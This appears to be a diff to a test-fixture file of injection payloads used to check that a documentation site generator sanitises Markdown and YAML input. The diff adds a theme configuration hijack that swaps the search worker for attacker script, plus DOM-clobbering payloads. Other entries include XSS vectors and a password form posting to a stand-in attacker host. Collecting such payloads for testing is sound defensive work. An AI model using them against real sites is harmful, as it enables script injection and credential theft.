@@ -25,6 +25,12 @@ YAML_PAYLOADS = {
     "formule-tableur": '=HYPERLINK("https://pirate.example/","cliquez")',
 }
 
+# Replaces the theme's configuration: its search worker would be a script of the attacker's.
+CONFIG_HIJACK = (
+    '{"base": ".", "features": [], "translations": {}, '
+    f'"search": "data:text/javascript,{RUN}"' + "}"
+)
+
 # A title that tries to add an event to the calendar file.
 ICS_INJECTION = "Réunion\r\nBEGIN:VEVENT\r\nSUMMARY:injecté"
 
@@ -38,8 +44,9 @@ MARKDOWN_PAYLOADS = {
     "lien-markdown-javascript": f"[lien markdown](javascript:{RUN})",
     "image-data": "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
     "lien-data": f"[data](data:text/html,<script>{RUN}</script>)",
-    "iframe": '<iframe src="https://pirate.example/"></iframe>',
-    "objet": '<object data="https://pirate.example/x.swf"></object>',
+    # frames and objects of the site itself (those of another site are refused by check)
+    "iframe": '<iframe src="cadre.html"></iframe>',
+    "objet": '<object data="x.swf"></object>',
     "formulaire": '<form action="https://pirate.example/"><input name="mdp"></form>',
     "style": "<style>body { display: none }</style>",
     "attribut-style": '<p style="position:fixed;inset:0;background:red">recouvre</p>',
@@ -48,6 +55,13 @@ MARKDOWN_PAYLOADS = {
     "onclick": f'<a href="#" onclick="{RUN}">clic</a>',
     "details-ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
     "gabarit-jinja": "{{ config.site_name }} {% for x in range(3) %}boucle{% endfor %}",
+    # the theme's machinery: its configuration element, its search, its global functions
+    "id-config": f'<div id="__config">{CONFIG_HIJACK}</div>',
+    "id-search": '<div id="__search">recherche remplacée</div>',
+    "attr-list-id": "Texte marqué\n{: #__drawer }",
+    "titre-config": "#### __config",
+    "clobber-nom": '<img name="getElementById" alt="clobber">',
+    "mermaid": '<pre class="mermaid md-typeset" data-md-component="search">graph TD; A--&gt;B</pre>',
 }
 
 
